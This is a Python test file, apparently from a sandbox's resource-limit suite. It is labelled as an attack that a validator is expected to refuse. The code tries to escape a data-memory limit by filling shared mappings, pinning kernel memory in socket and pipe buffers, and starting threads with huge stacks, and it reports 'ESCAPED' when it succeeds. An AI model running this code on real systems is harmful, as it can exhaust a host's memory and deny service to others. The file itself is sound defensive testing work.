# attack: the limit on data does not count shared mappings, pipes and socket buffers: takes memory as those
# expect: validator
# validator: refused
import mmap
import os
import socket
import threading

PIECE, MOST = 64 * 1024 * 1024, 3 * 1024 * 1024 * 1024
areas, taken = [], 0
for flags in (mmap.MAP_SHARED | mmap.MAP_ANONYMOUS, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | 0x8000):
    try:
        while taken < MOST:
            area = mmap.mmap(-1, PIECE, flags)
            for place in range(0, PIECE, 4096):
                area[place] = 1
            areas.append(area)
            taken += PIECE
    except (OSError, ValueError, MemoryError) as error:
        print("shared mappings:", taken, error)
if taken > 1536 * 1024 * 1024:
    print(f"ESCAPED: {taken:,} bytes of shared memory", flush=True)

# Memory of the kernel's, on this process's account only as descriptors: full pipes and sockets.
held, ends = 0, []
try:
    while held < MOST:
        ours, other = socket.socketpair()
        ours.setblocking(False)
        ours.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        ends += [ours, other]
        try:
            while True:
                held += ours.send(b"x" * 65536)
        except BlockingIOError:
            pass
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        try:
            while True:
                held += os.write(writer, b"x" * 65536)
        except BlockingIOError:
            pass
except OSError as error:
    print("buffers:", held, error)
if held > 1024 * 1024 * 1024:
    print(f"ESCAPED: the kernel holds {held:,} bytes for it", flush=True)

threading.stack_size(256 * 1024 * 1024)
waiting = threading.Event()
started = 0
try:
    for _ in range(32):
        threading.Thread(target=waiting.wait, args=(2,), daemon=True).start()
        started += 1
except (RuntimeError, MemoryError) as error:
    print("stacks:", started, error)
if started * 256 > 8192 - 1:
    print(f"ESCAPED: {started} stacks of 256 MB", flush=True)
waiting.set()
